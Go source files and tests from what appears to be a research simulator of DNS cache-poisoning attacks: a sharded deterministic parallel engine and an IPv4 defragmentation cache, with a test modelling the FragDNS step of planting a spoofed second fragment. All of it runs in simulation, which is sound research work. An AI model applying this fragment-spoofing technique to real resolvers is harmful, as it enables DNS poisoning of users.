	var shards []Shard
	for start := 0; start < j.Items; start += size {
		count := j.Items - start
		if count > size {
			count = size
		}
		shards = append(shards, Shard{
			Index: len(shards),
			Start: start,
			Count: count,
			Seed:  DeriveSeed(j.Seed, len(shards)),
		})
	}
	return shards
}

// DeriveSeed maps (base seed, shard index) to the shard's seed with a
// splitmix64 finalizer, so neighbouring shard indices get statistically
// independent streams while the mapping stays pure and portable.
func DeriveSeed(base int64, shard int) int64 {
	z := uint64(base) + 0x9e3779b97f4a7c15*(uint64(shard)+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// DeriveSeedKey maps (base seed, identity key) to a seed the same way
// DeriveSeed does, but keyed by a stable string identity instead of a
// positional index. Experiments whose work units have names (e.g. the
// campaign matrix's method/victim/profile/defense cells) derive their
// seeds from the identity so a FILTERED run reproduces exactly the
// numbers of the full run: dropping cells never renumbers — and so
// never reseeds — the cells that remain.
func DeriveSeedKey(base int64, key string) int64 {
	// FNV-1a over the key folds the identity into 64 bits; the same
	// splitmix64 finalizer DeriveSeed applies then decorrelates
	// neighbours. The full 64-bit hash feeds the mix directly — going
	// through DeriveSeed's int parameter would truncate it on 32-bit
	// platforms and break seed portability.
	h := uint64(14695981039346656037)
	for i := 0; i < len(key); i++ {
		h ^= uint64(key[i])
		h *= 1099511628211
	}
	z := uint64(base) + 0x9e3779b97f4a7c15*(h+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// Trial is one executable unit of a job: a shard bound to the function
// that simulates it.
type Trial[T any] struct {
	Shard Shard
	Fn    func(Shard) T
}

// Trials binds every shard of the job to fn.
func Trials[T any](j Job, fn func(Shard) T) []Trial[T] {
	shards := j.Shards()
	trials := make([]Trial[T], len(shards))
	for i, sh := range shards {
		trials[i] = Trial[T]{Shard: sh, Fn: fn}
	}
	return trials
}

// Workers resolves a requested parallelism: values <= 0 mean
// GOMAXPROCS.
func Workers(requested int) int {
	if requested > 0 {
		return requested
	}
	return runtime.GOMAXPROCS(0)
}

// Execute runs the trials on a pool of Workers(parallelism) goroutines
// and returns their results in trial order, regardless of completion
// order. onDone, when non-nil, is invoked (serialized) after each
// trial completes.
func Execute[T any](parallelism int, trials []Trial[T], onDone func(done, total int)) []T {
	results, _ := ExecuteCtx(context.Background(), parallelism, trials, onDone)
	return results
}

// ExecuteCtx is Execute under a cancellable context: trials already
// dispatched run to completion (a shard's simulation is not
// interruptible), but no new trial starts once ctx is cancelled, and
// the context's error is returned. On cancellation the result slice
// is partial — callers must treat a non-nil error as fatal rather
// than merge the partial results.
func ExecuteCtx[T any](ctx context.Context, parallelism int, trials []Trial[T], onDone func(done, total int)) ([]T, error) {
	results := make([]T, len(trials))
	workers := Workers(parallelism)
	if workers > len(trials) {
		workers = len(trials)
	}
	err := executeBursts(ctx, workers, DefaultBurst, len(trials), func(_, i int) {
		results[i] = trials[i].Fn(trials[i].Shard)
	}, onDone)
	return results, err
}

// executeBursts is the dispatch core under Execute and RunWorkers: it
// invokes run(worker, i) exactly once for every i in [0, total) that
// starts before ctx is cancelled, with worker in [0, workers) stable
// per goroutine (the hook per-worker state hangs off). Workers claim
// index ranges of `burst` off a shared atomic counter — no channel
// rendezvous per trial — and walk each range in order, so one worker's
// result writes land on adjacent cache lines. onDone, when non-nil, is
// called serialized with a strictly monotonic done count.
func executeBursts(ctx context.Context, workers, burst, total int, run func(worker, i int), onDone func(done, total int)) error {
	if burst <= 0 {
		burst = DefaultBurst
	}
	if workers <= 1 {
		for i := 0; i < total; i++ {
			if err := ctx.Err(); err != nil {
				return err
			}
			run(0, i)
			if onDone != nil {
				onDone(i+1, total)
			}
		}
		return nil
	}

	var (
		next atomic.Int64
		wg   sync.WaitGroup
		mu   sync.Mutex
		done int
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for {
				if ctx.Err() != nil {
					return
				}
				start := int(next.Add(int64(burst))) - burst
				if start >= total {
					return
				}
				end := start + burst
				if end > total {
					end = total
				}
				for i := start; i < end; i++ {
					if ctx.Err() != nil {
						return
					}
					run(w, i)
					if onDone != nil {
						// Increment under the same mutex that
						// serializes the callback, so observed done
						// values are strictly monotonic.
						mu.Lock()
						done++
						onDone(done, total)
						mu.Unlock()
					}
				}
			}
		}(w)
	}
	wg.Wait()
	return ctx.Err()
}

// Run plans the job's shards, binds them to fn and executes them on
// the pool: the one-call form of Trials + Execute.
func Run[T any](j Job, fn func(Shard) T) []T {
	return Execute(j.Parallelism, Trials(j, fn), j.OnTrialDone)
}

// RunCtx is Run under a cancellable context: long sweeps abort
// between shards when ctx is cancelled, returning the context's
// error. With a background context the error is always nil.
func RunCtx[T any](ctx context.Context, j Job, fn func(Shard) T) ([]T, error) {
	return ExecuteCtx(ctx, j.Parallelism, Trials(j, fn), j.OnTrialDone)
}

// Resettable is the optional reuse hook for RunWorkers states: when a
// worker's state implements it, Reset is called with the shard about
// to run, before fn. States use it to rewind scratch arenas (wire
// pools, result slices) to empty without releasing their capacity —
// the per-shard setup cost that burst execution exists to amortize.
//
// Reset must restore every piece of state a trial can observe:
// anything it leaves behind would make results depend on which shards
// a worker previously ran, breaking the determinism contract.
type Resettable interface {
	Reset(Shard)
}

// RunWorkers runs the job with one state per worker, so trials on the
// same worker can reuse allocation-heavy scratch (wire-buffer pools,
// result accumulators) across shards instead of rebuilding it per
// trial. newState is called once per worker, on that worker's
// goroutine, before its first shard; if the state implements
// Resettable it is Reset before every shard including the first.
// Results are returned in shard order like Run.
func RunWorkers[S, T any](j Job, newState func() S, fn func(S, Shard) T) []T {
	results, _ := RunWorkersCtx(context.Background(), j, newState, fn)
	return results
}

// RunWorkersCtx is RunWorkers under a cancellable context, with
// ExecuteCtx's cancellation semantics: no new shard starts after ctx
// is cancelled, and partial results must not be merged.
func RunWorkersCtx[S, T any](ctx context.Context, j Job, newState func() S, fn func(S, Shard) T) ([]T, error) {
	return RunWorkersCachedCtx[S, T](ctx, j, nil, newState, fn)
}

// ShardCache memoizes shard results across runs. Lookup and Store are
// called from worker goroutines concurrently and must be safe for
// concurrent use. The contract only makes sense for deterministic
// trials: a stored result must be exactly what fn would have produced
// for that shard — the campaign's identity-seeded cells qualify, a
// shard whose output depends on anything but (Shard, fn) does not.
type ShardCache[T any] interface {
	// Lookup returns the memoized result for sh, if present.
	Lookup(sh Shard) (T, bool)
	// Store records fn's result for sh. Store may be called by several
	// workers for distinct shards at once (never twice for the same
	// shard within one run).
	Store(sh Shard, result T)
}

// RunWorkersCachedCtx is RunWorkersCtx with a memoization hook at
// shard dispatch: a shard whose result is already in cache skips state
// construction, Reset and fn entirely — its result comes straight from
// the cache — and every freshly computed result is stored back. A nil
// cache degrades to plain RunWorkersCtx. Cancellation semantics are
// unchanged; results produced before cancellation are still stored, so
// an aborted sweep resumed later recomputes only what never ran.
func RunWorkersCachedCtx[S, T any](ctx context.Context, j Job, cache ShardCache[T], newState func() S, fn func(S, Shard) T) ([]T, error) {
	shards := j.Shards()
	results := make([]T, len(shards))
	workers := Workers(j.Parallelism)
	if workers > len(shards) {
		workers = len(shards)
	}
	if workers < 1 {
		workers = 1
	}
	states := make([]S, workers)
	made := make([]bool, workers)
	err := executeBursts(ctx, workers, j.burst(), len(shards), func(w, i int) {
		if cache != nil {
			if r, ok := cache.Lookup(shards[i]); ok {
				results[i] = r
				return
			}
		}
		if !made[w] {
			states[w] = newState()
			made[w] = true
		}
		if r, ok := any(states[w]).(Resettable); ok {
			r.Reset(shards[i])
		}
		results[i] = fn(states[w], shards[i])
		if cache != nil {
			cache.Store(shards[i], results[i])
		}
	}, j.OnTrialDone)
	return results, err
}

// Parallel executes independent heterogeneous thunks on the pool —
// for experiment suites whose trials are a fixed set of dissimilar
// simulations (e.g. the Table 6 attack comparison) rather than shards
// of one population. Each thunk must be self-contained like any other
// trial.
func Parallel(parallelism int, fns ...func()) {
	_ = ParallelCtx(context.Background(), parallelism, fns...)
}

// ParallelCtx is Parallel under a cancellable context.
func ParallelCtx(ctx context.Context, parallelism int, fns ...func()) error {
	trials := make([]Trial[struct{}], len(fns))
	for i, fn := range fns {
		fn := fn
		trials[i] = Trial[struct{}]{
			Shard: Shard{Index: i, Start: i, Count: 1},
			Fn:    func(Shard) struct{} { fn(); return struct{}{} },
		}
	}
	_, err := ExecuteCtx(ctx, parallelism, trials, nil)
	return err
}
