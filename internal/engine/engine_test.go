package engine

import (
	"context"
	"errors"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
)

func TestShardPlanCoversPopulation(t *testing.T) {
	for _, tc := range []struct {
		items, size int
		wantShards  int
	}{
		{0, 0, 0},
		{1, 0, 1},
		{256, 0, 1},
		{257, 0, 2},
		{1000, 100, 10},
		{1001, 100, 11},
		{5, 2, 3},
	} {
		j := Job{Items: tc.items, ShardSize: tc.size, Seed: 42}
		shards := j.Shards()
		if len(shards) != tc.wantShards {
			t.Fatalf("items=%d size=%d: %d shards, want %d", tc.items, tc.size, len(shards), tc.wantShards)
		}
		next := 0
		for i, sh := range shards {
			if sh.Index != i {
				t.Fatalf("shard %d has Index %d", i, sh.Index)
			}
			if sh.Start != next {
				t.Fatalf("shard %d starts at %d, want %d", i, sh.Start, next)
			}
			if sh.Count <= 0 {
				t.Fatalf("shard %d empty", i)
			}
			next = sh.Start + sh.Count
		}
		if next != tc.items {
			t.Fatalf("plan covers %d items, want %d", next, tc.items)
		}
	}
}

func TestShardPlanIgnoresParallelism(t *testing.T) {
	a := Job{Items: 1000, ShardSize: 64, Seed: 7, Parallelism: 1}.Shards()
	b := Job{Items: 1000, ShardSize: 64, Seed: 7, Parallelism: 16}.Shards()
	if !reflect.DeepEqual(a, b) {
		t.Fatal("shard plan depends on parallelism")
	}
}

func TestDeriveSeedDeterministicAndSpread(t *testing.T) {
	if DeriveSeed(1, 0) != DeriveSeed(1, 0) {
		t.Fatal("DeriveSeed not deterministic")
	}
	seen := map[int64]bool{}
	for i := 0; i < 1000; i++ {
		s := DeriveSeed(1, i)
		if seen[s] {
			t.Fatalf("seed collision at shard %d", i)
		}
		seen[s] = true
	}
	if DeriveSeed(1, 0) == DeriveSeed(2, 0) {
		t.Fatal("base seed ignored")
	}
}

func TestRunResultsIndependentOfWorkerCount(t *testing.T) {
	fn := func(sh Shard) []int64 {
		out := make([]int64, sh.Count)
		for k := range out {
			out[k] = sh.Seed + int64(sh.Start+k)
		}
		return out
	}
	var reference [][]int64
	for _, p := range []int{1, 2, 8} {
		j := Job{Items: 333, ShardSize: 16, Seed: 99, Parallelism: p}
		got := Run(j, fn)
		if reference == nil {
			reference = got
			continue
		}
		if !reflect.DeepEqual(got, reference) {
			t.Fatalf("parallelism %d changed results", p)
		}
	}
}

func TestExecuteReportsProgress(t *testing.T) {
	var calls int
	last := 0
	j := Job{Items: 50, ShardSize: 10, Seed: 1, Parallelism: 4,
		OnTrialDone: func(done, total int) {
			calls++
			if total != 5 {
				t.Errorf("total %d, want 5", total)
			}
			if done <= last {
				t.Errorf("done not monotonic: %d after %d", done, last)
			}
			last = done
		}}
	Run(j, func(sh Shard) int { return sh.Index })
	if calls != 5 || last != 5 {
		t.Fatalf("progress calls=%d last=%d, want 5/5", calls, last)
	}
}

func TestParallelRunsAllThunks(t *testing.T) {
	var n atomic.Int64
	fns := make([]func(), 17)
	for i := range fns {
		fns[i] = func() { n.Add(1) }
	}
	Parallel(4, fns...)
	if n.Load() != 17 {
		t.Fatalf("ran %d thunks, want 17", n.Load())
	}
}

func TestEmptyJob(t *testing.T) {
	if got := Run(Job{Items: 0, Seed: 1}, func(Shard) int { return 1 }); len(got) != 0 {
		t.Fatalf("empty job produced %d results", len(got))
	}
}

// TestRunCtxCancellationStopsDispatch pins the cancellation contract:
// once the context is cancelled no further shard starts, and the
// context's error comes back instead of a silent partial merge.
func TestRunCtxCancellationStopsDispatch(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var started atomic.Int64
	j := Job{Items: 100, ShardSize: 1, Seed: 3, Parallelism: 1}
	_, err := RunCtx(ctx, j, func(sh Shard) int {
		if started.Add(1) == 5 {
			cancel()
		}
		return sh.Index
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	// Serial execution checks ctx before each trial: exactly the five
	// trials up to the cancelling one ran.
	if started.Load() != 5 {
		t.Fatalf("%d trials started after cancellation, want 5", started.Load())
	}

	// Parallel path: in-flight shards finish, the rest never start.
	ctx2, cancel2 := context.WithCancel(context.Background())
	cancel2()
	var ran atomic.Int64
	_, err = RunCtx(ctx2, Job{Items: 64, ShardSize: 1, Seed: 4, Parallelism: 8},
		func(sh Shard) int { ran.Add(1); return sh.Index })
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("parallel err = %v, want context.Canceled", err)
	}
	if ran.Load() != 0 {
		t.Fatalf("%d trials ran under a pre-cancelled context, want 0", ran.Load())
	}
}

// TestRunCtxBackgroundMatchesRun: with a background context RunCtx is
// Run — same results, nil error.
func TestRunCtxBackgroundMatchesRun(t *testing.T) {
	fn := func(sh Shard) int64 { return sh.Seed + int64(sh.Start) }
	j := Job{Items: 40, ShardSize: 8, Seed: 12, Parallelism: 4}
	got, err := RunCtx(context.Background(), j, fn)
	if err != nil {
		t.Fatal(err)
	}
	if want := Run(j, fn); !reflect.DeepEqual(got, want) {
		t.Fatal("RunCtx(Background) differs from Run")
	}
}

// TestDeriveSeedKeyStableAndDistinct pins the identity-keyed seed
// derivation: deterministic for the same (base, key), different for
// different keys or bases, and independent of any positional index —
// the property that keeps filtered campaign runs cell-for-cell
// identical to full runs.
func TestDeriveSeedKeyStableAndDistinct(t *testing.T) {
	a := DeriveSeedKey(42, "saddns/web/bind/0x20")
	if b := DeriveSeedKey(42, "saddns/web/bind/0x20"); a != b {
		t.Fatalf("unstable: %d vs %d", a, b)
	}
	seen := map[int64]string{}
	for _, key := range []string{"a", "b", "ab", "ba", "hijack/web/bind/none", "hijack/web/bind/dnssec"} {
		s := DeriveSeedKey(7, key)
		if prev, dup := seen[s]; dup {
			t.Fatalf("collision between %q and %q", prev, key)
		}
		seen[s] = key
	}
	if DeriveSeedKey(1, "x") == DeriveSeedKey(2, "x") {
		t.Fatal("base seed ignored")
	}
}

// TestRunWorkersResultsIndependentOfWorkersAndBurst pins the
// determinism contract across the burst dispatcher: neither the worker
// count nor the burst size may change results or their order.
func TestRunWorkersResultsIndependentOfWorkersAndBurst(t *testing.T) {
	type state struct{ scratch []int64 }
	fn := func(s *state, sh Shard) int64 {
		s.scratch = append(s.scratch, sh.Seed)
		return sh.Seed + int64(sh.Start)
	}
	var reference []int64
	for _, p := range []int{1, 2, 8} {
		for _, burst := range []int{1, 3, 64, 1000} {
			j := Job{Items: 333, ShardSize: 4, Seed: 99, Parallelism: p, Burst: burst}
			got := RunWorkers(j, func() *state { return &state{} }, fn)
			if reference == nil {
				reference = got
				continue
			}
			if !reflect.DeepEqual(got, reference) {
				t.Fatalf("parallelism %d burst %d changed results", p, burst)
			}
		}
	}
}

// TestRunWorkersStatePerWorker: newState runs once per participating
// worker, every shard sees a state, and Reset is called with the
// shard about to run — before fn, every time.
func TestRunWorkersStatePerWorker(t *testing.T) {
	var made atomic.Int64
	j := Job{Items: 64, ShardSize: 1, Seed: 5, Parallelism: 4, Burst: 4}
	states := RunWorkers(j,
		func() *resettableState { made.Add(1); return &resettableState{} },
		func(s *resettableState, sh Shard) *resettableState {
			if len(s.resets) == 0 || s.resets[len(s.resets)-1] != sh.Index {
				t.Errorf("shard %d ran without a preceding Reset", sh.Index)
			}
			return s
		})
	if n := made.Load(); n < 1 || n > 4 {
		t.Fatalf("newState ran %d times, want 1..4", n)
	}
	// Every shard's Reset happened on exactly one state, once.
	seen := map[int]int{}
	uniq := map[*resettableState]bool{}
	for _, s := range states {
		if uniq[s] {
			continue
		}
		uniq[s] = true
		for _, idx := range s.resets {
			seen[idx]++
		}
	}
	for i := 0; i < 64; i++ {
		if seen[i] != 1 {
			t.Fatalf("shard %d reset %d times, want 1", i, seen[i])
		}
	}
}

type resettableState struct{ resets []int }

func (s *resettableState) Reset(sh Shard) { s.resets = append(s.resets, sh.Index) }

// TestRunWorkersCtxCancellation: the burst dispatcher must honour the
// no-new-trials-after-cancel rule on both the serial and parallel
// paths, like ExecuteCtx.
func TestRunWorkersCtxCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var ran atomic.Int64
	_, err := RunWorkersCtx(ctx, Job{Items: 64, ShardSize: 1, Seed: 4, Parallelism: 8, Burst: 4},
		func() int { return 0 },
		func(int, Shard) int { ran.Add(1); return 0 })
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if ran.Load() != 0 {
		t.Fatalf("%d trials ran under a pre-cancelled context, want 0", ran.Load())
	}
}

// mapCache is a minimal ShardCache for tests: a mutex map keyed by
// shard index, counting hits and stores.
type mapCache[T any] struct {
	mu     sync.Mutex
	m      map[int]T
	hits   int
	stores int
}

func newMapCache[T any]() *mapCache[T] { return &mapCache[T]{m: make(map[int]T)} }

func (c *mapCache[T]) Lookup(sh Shard) (T, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	r, ok := c.m[sh.Index]
	if ok {
		c.hits++
	}
	return r, ok
}

func (c *mapCache[T]) Store(sh Shard, r T) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.m[sh.Index] = r
	c.stores++
}

func TestRunWorkersCachedSkipsComputation(t *testing.T) {
	j := Job{Items: 40, ShardSize: 1, Seed: 7, Parallelism: 4, Burst: 4}
	cache := newMapCache[int]()
	var calls atomic.Int64
	run := func() []int {
		out, err := RunWorkersCachedCtx(context.Background(), j, cache,
			func() *struct{} { return nil },
			func(_ *struct{}, sh Shard) int { calls.Add(1); return sh.Start * 3 })
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	cold := run()
	if got := calls.Load(); got != 40 {
		t.Fatalf("cold run computed %d shards, want 40", got)
	}
	if cache.stores != 40 {
		t.Fatalf("cold run stored %d results, want 40", cache.stores)
	}
	warm := run()
	if got := calls.Load(); got != 40 {
		t.Fatalf("warm run recomputed %d shards, want 0", got-40)
	}
	if cache.hits != 40 {
		t.Fatalf("warm run hit cache %d times, want 40", cache.hits)
	}
	if !reflect.DeepEqual(cold, warm) {
		t.Fatalf("cached results differ: %v vs %v", cold, warm)
	}
	for i, v := range cold {
		if v != i*3 {
			t.Fatalf("result[%d] = %d, want %d", i, v, i*3)
		}
	}
}

func TestRunWorkersCachedNilCacheMatchesUncached(t *testing.T) {
	j := Job{Items: 17, ShardSize: 2, Seed: 3, Parallelism: 3}
	fn := func(_ *struct{}, sh Shard) int64 { return sh.Seed ^ int64(sh.Start) }
	newState := func() *struct{} { return nil }
	plain, err := RunWorkersCtx(context.Background(), j, newState, fn)
	if err != nil {
		t.Fatal(err)
	}
	cached, err := RunWorkersCachedCtx[*struct{}, int64](context.Background(), j, nil, newState, fn)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(plain, cached) {
		t.Fatalf("nil-cache results diverge: %v vs %v", plain, cached)
	}
}

// TestRunWorkersCachedStoresBeforeCancellation: results computed before
// a cancellation are in the cache, so a resumed run only recomputes the
// shards that never ran.
func TestRunWorkersCachedStoresBeforeCancellation(t *testing.T) {
	cache := newMapCache[int]()
	ctx, cancel := context.WithCancel(context.Background())
	j := Job{Items: 20, ShardSize: 1, Seed: 1, Parallelism: 1}
	var calls int
	_, err := RunWorkersCachedCtx(ctx, j, cache,
		func() *struct{} { return nil },
		func(_ *struct{}, sh Shard) int {
			calls++
			if calls == 5 {
				cancel()
			}
			return sh.Start
		})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want canceled", err)
	}
	if cache.stores != 5 {
		t.Fatalf("stored %d results before cancel, want 5", cache.stores)
	}
	out, err := RunWorkersCachedCtx(context.Background(), j, cache,
		func() *struct{} { return nil },
		func(_ *struct{}, sh Shard) int { calls++; return sh.Start })
	if err != nil {
		t.Fatal(err)
	}
	if calls != 20 {
		t.Fatalf("resume recomputed %d shards, want 15 new (20 total calls, got %d)", calls-5, calls)
	}
	for i, v := range out {
		if v != i {
			t.Fatalf("resumed result[%d] = %d", i, v)
		}
	}
}
