// Package ipfrag implements an IPv4 defragmentation cache with
// Linux-like semantics: reassembly keyed by (src, dst, protocol, IPID),
// a bounded number of in-progress datagrams (64 by default, matching
// the buffer FragDNS fills with candidate spoofed fragments), a
// reassembly timeout, and first-fragment-wins overlap policy (the
// post-"fragmentation considered poisonous" hardening; the attack in
// the paper does not rely on overlaps, only on supplying the missing
// second fragment).
package ipfrag

import (
	"sort"
	"time"

	"crosslayer/internal/packet"
)

// Key identifies one in-progress reassembly.
type Key struct {
	Src, Dst [4]byte
	Proto    uint8
	ID       uint16
}

// KeyOf returns the reassembly key for a fragment.
func KeyOf(ip *packet.IPv4) Key {
	return Key{Src: ip.Src.As4(), Dst: ip.Dst.As4(), Proto: ip.Protocol, ID: ip.ID}
}

type hole struct{ first, last int } // byte range, inclusive first, exclusive last

type reassembly struct {
	key      Key
	frags    []*packet.IPv4
	arrived  time.Duration
	total    int // total datagram payload length, -1 until final fragment seen
	haveLast bool
}

// Stats counts cache activity, used by the measurement harness.
type Stats struct {
	Inserted    int // fragments accepted into the cache
	Reassembled int
	Evicted     int // reassemblies dropped for capacity
	Expired     int
	Duplicates  int // fragments dropped by first-wins overlap policy
}

// Cache is an IPv4 defragmentation cache. It is driven by virtual
// time: callers pass the current time to Insert and Expire.
type Cache struct {
	capacity int
	timeout  time.Duration
	entries  map[Key]*reassembly
	order    []Key // FIFO for capacity eviction
	stats    Stats
}

// Defaults matching Linux: 64 datagrams in flight (the paper's "64
// packets to fill the resolver IP-defragmentation buffer"), 30s timer.
const (
	DefaultCapacity = 64
	DefaultTimeout  = 30 * time.Second
)

// New returns a cache with the given capacity and timeout; zero values
// select the defaults.
func New(capacity int, timeout time.Duration) *Cache {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	if timeout <= 0 {
		timeout = DefaultTimeout
	}
	return &Cache{capacity: capacity, timeout: timeout, entries: make(map[Key]*reassembly)}
}

// Stats returns a copy of the activity counters.
func (c *Cache) Stats() Stats { return c.stats }

// Reset empties the cache and zeroes the counters in place, keeping
// the allocated map and FIFO capacity — the trial-reset path, where a
// warmed cache is reused by the next simulation run.
func (c *Cache) Reset() {
	clear(c.entries)
	c.order = c.order[:0]
	c.stats = Stats{}
}

// Len reports the number of in-progress reassemblies.
func (c *Cache) Len() int { return len(c.entries) }

// Insert adds a fragment at virtual time now. If the fragment
// completes a datagram, the reassembled packet (with MF cleared and
// FragOff zero) is returned and the reassembly is removed. A
// non-fragment packet is returned unchanged.
func (c *Cache) Insert(ip *packet.IPv4, now time.Duration) *packet.IPv4 {
	if !ip.IsFragment() {
		return ip
	}
	c.Expire(now)
	k := KeyOf(ip)
	r := c.entries[k]
	if r == nil {
		if len(c.entries) >= c.capacity {
			c.evictOldest()
		}
		r = &reassembly{key: k, arrived: now, total: -1}
		c.entries[k] = r
		c.order = append(c.order, k)
	}
	// First-wins: drop a fragment whose byte range overlaps data we
	// already hold.
	start := int(ip.FragOff) * 8
	end := start + len(ip.Payload)
	for _, f := range r.frags {
		fs := int(f.FragOff) * 8
		fe := fs + len(f.Payload)
		if start < fe && fs < end {
			c.stats.Duplicates++
			return nil
		}
	}
	cp := *ip
	r.frags = append(r.frags, &cp)
	c.stats.Inserted++
	if !ip.MF {
		r.haveLast = true
		r.total = end
	}
	if done := r.assemble(); done != nil {
		delete(c.entries, k)
		c.removeOrder(k)
		c.stats.Reassembled++
		return done
	}
	return nil
}

// assemble returns the reassembled datagram if all holes are filled.
func (r *reassembly) assemble() *packet.IPv4 {
	if !r.haveLast {
		return nil
	}
	sort.Slice(r.frags, func(i, j int) bool { return r.frags[i].FragOff < r.frags[j].FragOff })
	payload := make([]byte, 0, r.total)
	next := 0
	for _, f := range r.frags {
		fs := int(f.FragOff) * 8
		if fs != next {
			return nil // hole
		}
		payload = append(payload, f.Payload...)
		next = fs + len(f.Payload)
	}
	if next != r.total {
		return nil
	}
	first := r.frags[0]
	out := *first
	out.MF = false
	out.FragOff = 0
	out.Payload = payload
	return &out
}

// Expire drops reassemblies older than the timeout.
func (c *Cache) Expire(now time.Duration) {
	for k, r := range c.entries {
		if now-r.arrived > c.timeout {
			delete(c.entries, k)
			c.removeOrder(k)
			c.stats.Expired++
		}
	}
}

func (c *Cache) evictOldest() {
	if len(c.order) == 0 {
		return
	}
	k := c.order[0]
	c.order = c.order[1:]
	if _, ok := c.entries[k]; ok {
		delete(c.entries, k)
		c.stats.Evicted++
	}
}

func (c *Cache) removeOrder(k Key) {
	for i, o := range c.order {
		if o == k {
			c.order = append(c.order[:i], c.order[i+1:]...)
			return
		}
	}
}

// Pending reports whether a reassembly for key k is in progress —
// used by tests to observe planted attacker fragments waiting in the
// cache.
func (c *Cache) Pending(k Key) bool {
	_, ok := c.entries[k]
	return ok
}
