package ipfrag

import (
	"bytes"
	"math/rand"
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/packet"
)

var (
	src = netip.MustParseAddr("123.0.0.53")
	dst = netip.MustParseAddr("30.0.0.1")
)

func mkDatagram(id uint16, n int) *packet.IPv4 {
	payload := make([]byte, n)
	for i := range payload {
		payload[i] = byte(i * 7)
	}
	return &packet.IPv4{ID: id, TTL: 64, Protocol: packet.ProtoUDP, Src: src, Dst: dst, Payload: payload}
}

func TestReassembleInOrder(t *testing.T) {
	c := New(0, 0)
	orig := mkDatagram(42, 1200)
	frags, _ := orig.Fragment(576)
	var out *packet.IPv4
	for _, f := range frags {
		out = c.Insert(f, 0)
	}
	if out == nil {
		t.Fatal("no reassembly after final fragment")
	}
	if !bytes.Equal(out.Payload, orig.Payload) || out.MF || out.FragOff != 0 {
		t.Fatalf("bad reassembly: len=%d mf=%v off=%d", len(out.Payload), out.MF, out.FragOff)
	}
	if c.Len() != 0 {
		t.Fatal("completed reassembly still cached")
	}
}

func TestReassembleOutOfOrder(t *testing.T) {
	c := New(0, 0)
	orig := mkDatagram(42, 2000)
	frags, _ := orig.Fragment(576)
	rng := rand.New(rand.NewSource(5))
	rng.Shuffle(len(frags), func(i, j int) { frags[i], frags[j] = frags[j], frags[i] })
	var out *packet.IPv4
	for _, f := range frags {
		if got := c.Insert(f, 0); got != nil {
			out = got
		}
	}
	if out == nil || !bytes.Equal(out.Payload, orig.Payload) {
		t.Fatal("out-of-order reassembly failed")
	}
}

func TestSpoofedSecondFragmentWins(t *testing.T) {
	// The FragDNS core move: attacker's second fragment sits in the
	// cache first; the genuine first fragment completes it; the later
	// genuine second fragment is orphaned.
	c := New(0, 0)
	orig := mkDatagram(0x1234, 1000)
	frags, _ := orig.Fragment(576)
	if len(frags) != 2 {
		t.Fatalf("want 2 fragments, got %d", len(frags))
	}
	evil := *frags[1]
	evilPayload := bytes.Repeat([]byte{0x66}, len(frags[1].Payload))
	evil.Payload = evilPayload

	if got := c.Insert(&evil, 0); got != nil {
		t.Fatal("lone second fragment reassembled")
	}
	out := c.Insert(frags[0], 0)
	if out == nil {
		t.Fatal("genuine first + spoofed second did not reassemble")
	}
	if !bytes.Equal(out.Payload[len(frags[0].Payload):], evilPayload) {
		t.Fatal("reassembly does not contain spoofed bytes")
	}
	// Genuine second fragment arrives late: starts a new (never
	// completed) reassembly.
	if got := c.Insert(frags[1], 0); got != nil {
		t.Fatal("orphaned genuine fragment reassembled")
	}
}

func TestDifferentIPIDsDoNotMix(t *testing.T) {
	c := New(0, 0)
	a := mkDatagram(1, 1000)
	b := mkDatagram(2, 1000)
	fa, _ := a.Fragment(576)
	fb, _ := b.Fragment(576)
	if got := c.Insert(fa[0], 0); got != nil {
		t.Fatal("incomplete reassembled")
	}
	if got := c.Insert(fb[1], 0); got != nil {
		t.Fatal("fragments with different IPID reassembled")
	}
	if c.Len() != 2 {
		t.Fatalf("want 2 pending reassemblies, got %d", c.Len())
	}
}

func TestOverlapFirstWins(t *testing.T) {
	c := New(0, 0)
	orig := mkDatagram(9, 1000)
	frags, _ := orig.Fragment(576)
	evil := *frags[1]
	evil.Payload = bytes.Repeat([]byte{0xEE}, len(frags[1].Payload))
	c.Insert(frags[1], 0) // genuine second first
	out := c.Insert(&evil, 0)
	if out != nil {
		t.Fatal("overlap insert completed a reassembly")
	}
	out = c.Insert(frags[0], 0)
	if out == nil {
		t.Fatal("reassembly failed")
	}
	if !bytes.Equal(out.Payload, orig.Payload) {
		t.Fatal("later overlapping fragment overrode earlier data (first-wins violated)")
	}
	if c.Stats().Duplicates != 1 {
		t.Fatalf("duplicates=%d, want 1", c.Stats().Duplicates)
	}
}

func TestCapacityEvictionFIFO(t *testing.T) {
	c := New(4, 0)
	for id := uint16(1); id <= 5; id++ {
		f, _ := mkDatagram(id, 1000).Fragment(576)
		c.Insert(f[0], 0)
	}
	if c.Len() != 4 {
		t.Fatalf("len=%d, want 4", c.Len())
	}
	if c.Pending(Key{Src: src.As4(), Dst: dst.As4(), Proto: packet.ProtoUDP, ID: 1}) {
		t.Fatal("oldest reassembly not evicted")
	}
	if c.Stats().Evicted != 1 {
		t.Fatalf("evicted=%d, want 1", c.Stats().Evicted)
	}
	// Completing an evicted datagram must now fail.
	f, _ := mkDatagram(1, 1000).Fragment(576)
	if got := c.Insert(f[1], 0); got != nil {
		t.Fatal("evicted reassembly completed")
	}
}

func TestTimeoutExpiry(t *testing.T) {
	c := New(0, 10*time.Second)
